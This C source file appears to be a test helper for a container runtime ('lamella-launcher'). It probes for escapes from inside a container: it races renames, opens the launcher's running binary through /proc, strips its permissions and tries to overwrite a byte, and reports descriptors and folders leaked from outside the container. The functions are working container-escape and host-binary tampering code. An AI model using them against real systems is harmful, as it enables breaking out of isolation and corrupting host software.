/* What a container does while others are set up beside it or in it:
 *
 *   races swap A B      exchanges two names with each other, for ever, whatever comes between: one may be gone, busy or not there yet
 *   races watch SECONDS looks at every process that turns up. Prints "launcher" when it can open the launcher's program, and takes its
 *                       mode and owner away if it can, "written" when it can write to it while it runs or after; "done" at the end
 *   races look SECONDS  looks into every process that turns up, at once and again and again. Prints "launcher" when it sees that one runs
 *                       the launcher's program, "descriptor PATH" for a file or folder that one has open and that is on no file system
 *                       of the container; "done" at the end
 *                       Both print "begun" after the first look, and end at SIGTERM, too
 *   races open          prints "open N PATH" for each descriptor beyond the standard ones, "outside" when the working folder is
 *                       not in the container; "done" at the end
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static void swap(const char *one, const char *other)
{
	for (;;)
		renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE);
}

static void try_to_write(int file)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", file);
	/* A program that runs cannot be written to: it is tried until long after. */
	for (int attempt = 0; attempt < 20000; attempt++) {
		int writing = open(path, O_WRONLY | O_CLOEXEC);
		if (writing >= 0) {
			/* The same byte again is proof enough. */
			char byte = 0x7f;
			if (pwrite(writing, &byte, 1, 0) == 1)
				puts("written");
			close(writing);
			return;
		}
	}
}

/* What a link of /proc leads to; "" when it cannot be read. */
static const char *target(const char *path)
{
	static char text[4096];
	ssize_t length = readlink(path, text, sizeof text - 1);
	text[length < 0 ? 0 : length] = 0;
	return text;
}

static int runs_launcher(int pid, char *path, size_t size)
{
	snprintf(path, size, "/proc/%d/exe", pid);
	return strstr(target(path), "lamella-launcher") != NULL;
}

static void attack(int pid)
{
	static int seen;
	char path[64];
	if (!runs_launcher(pid, path, sizeof path))
		return;
	int file = open(path, O_RDONLY | O_CLOEXEC);
	if (file < 0)
		return;
	if (!seen++)
		puts("launcher");
	fchmod(file, 0);
	if (fchown(file, 1, 1))
		errno = 0;
	try_to_write(file);
	close(file);
}

static void look_into(int pid)
{
	static int seen;
	struct stat root, status;
	char path[64];
	if (runs_launcher(pid, path, sizeof path) && !seen++)
		puts("launcher");
	stat("/", &root);
	for (int number = 0; number < 64; number++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, number);
		const char *name = target(path);
		/* Its name may lead nowhere in here; the link does. */
		if (name[0] == '/' && strncmp(name, "/dev/", 5) && strncmp(name, "/proc", 5) && strncmp(name, "/memfd:", 7) &&
		    !stat(path, &status) && status.st_dev != root.st_dev)
			printf("descriptor %s\n", name);
	}
}

static volatile sig_atomic_t is_over;

static void be_over(int number)
{
	(void)number;
	is_over = 1;
}

static int every_process(int seconds, void (*act)(int pid))
{
	time_t end = time(NULL) + seconds;
	signal(SIGTERM, be_over);
	puts("begun");
	while (!is_over && time(NULL) < end) {
		DIR *folder = opendir("/proc");
		struct dirent *entry;
		while (folder && (entry = readdir(folder))) {
			int pid = atoi(entry->d_name);
			if (pid > 1 && pid != getpid())
				act(pid);
		}
		if (folder)
			closedir(folder);
		fflush(stdout);
	}
	puts("done");
	return 0;
}

static int open_descriptors(void)
{
	struct stat root, status;
	char path[64], folder[4096];
	stat("/", &root);
	for (int number = 3; number < 1024; number++)
		if (!fstat(number, &status)) {
			snprintf(path, sizeof path, "/proc/self/fd/%d", number);
			printf("open %d %s\n", number, target(path));
		}
	if (!getcwd(folder, sizeof folder) || folder[0] != '/')
		puts("outside");
	puts("done");
	return 0;
}

int main(int count, char **arguments)
{
	if (count == 4 && !strcmp(arguments[1], "swap"))
		swap(arguments[2], arguments[3]);
	if (count == 3 && !strcmp(arguments[1], "watch"))
		return every_process(atoi(arguments[2]), attack);
	if (count == 3 && !strcmp(arguments[1], "look"))
		return every_process(atoi(arguments[2]), look_into);
	if (count == 2 && !strcmp(arguments[1], "open"))
		return open_descriptors();
	return 2;
}
